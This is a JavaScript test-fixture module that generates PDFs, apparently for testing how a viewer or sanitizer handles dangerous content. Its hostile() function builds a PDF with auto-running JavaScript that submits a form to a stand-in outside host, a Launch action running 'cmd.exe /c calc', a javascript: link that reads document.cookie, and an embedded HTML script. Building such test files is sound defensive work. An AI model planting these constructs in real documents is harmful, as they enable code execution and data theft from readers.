// PDFs made on the spot, for what no honest program writes.

/** A file of these objects, in order from 1; the first is the catalogue. */
export function pdf(objects) {
  let text = "%PDF-1.7\n";
  const offsets = objects.map((body, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) text += `${String(at).padStart(10, "0")} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

export const stream = (text, more = "") => `<< /Length ${text.length} ${more} >>\nstream\n${text}\nendstream`;

/** Pages that say "Trang 1", "Trang 2" … in a font that the file does not bring. */
export function pages(count) {
  const objects = ["<< /Type /Catalog /Pages 2 0 R >>", "", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"];
  const kids = [];
  for (let number = 1; number <= count; number++) {
    objects.push(stream(`BT /F1 48 Tf 72 700 Td (Trang ${number}) Tj ET`));
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${objects.length} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`);
    kids.push(`${objects.length} 0 R`);
  }
  objects[1] = `<< /Type /Pages /Count ${count} /Kids [${kids.join(" ")}] >>`;
  return pdf(objects);
}

/** Everything that a PDF can try: scripts on opening and on a page, a program to start, links, a page of HTML inside. */
export function hostile() {
  const script = "app.alert('chay'); app.launchURL('https://bay.example.org/'); this.submitForm('https://bay.example.org/'); globalThis.hasRun = true;";
  return pdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.html) 11 0 R] >> >> >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R] >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
    stream("BT /F1 24 Tf 72 700 Td (Giay to mau) Tj ET"),
    `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, "\\$&")}) >>`,
    "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (https://ngoai.example.org/bieu-mau?a=1) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 540 300 580] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 480 300 520] /A 6 0 R >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 420 300 460] /A << /S /URI /URI (javascript:alert\\(document.cookie\\)) >> >>",
    "<< /Type /Filespec /F (a.html) /UF (a.html) /EF << /F 12 0 R >> >>",
    stream("<script>top.hasRun = true</script>", "/Type /EmbeddedFile /Subtype /text#2Fhtml"),
  ]);
}
